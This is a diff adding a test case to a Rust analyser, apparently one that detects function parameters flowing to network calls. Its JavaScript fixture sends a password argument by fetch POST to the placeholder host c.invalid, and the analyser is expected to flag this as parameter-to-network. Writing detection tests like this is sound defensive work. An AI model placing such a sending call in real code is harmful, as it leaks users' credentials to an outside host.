@@ -151,6 +151,14 @@ fn what_a_helper_makes_of_its_arguments_is_not_lost() {
             ],
             "parameter-to-network password>https://c.invalid/p",
         ),
+        // A call on load says nothing of what others give.
+        (
+            &[(
+                "i.js",
+                "function login(password) { fetch('https://c.invalid/p', { method: 'POST', body: password }); }\nlogin('x'); exports.login = login;\nfunction other(path) { require('fs').readFileSync(path); }\nother('a'); exports.other = other;",
+            )],
+            "parameter-to-network password>https://c.invalid/p",
+        ),
         // Who reads an address leaves such characters out.
         (
             &[(
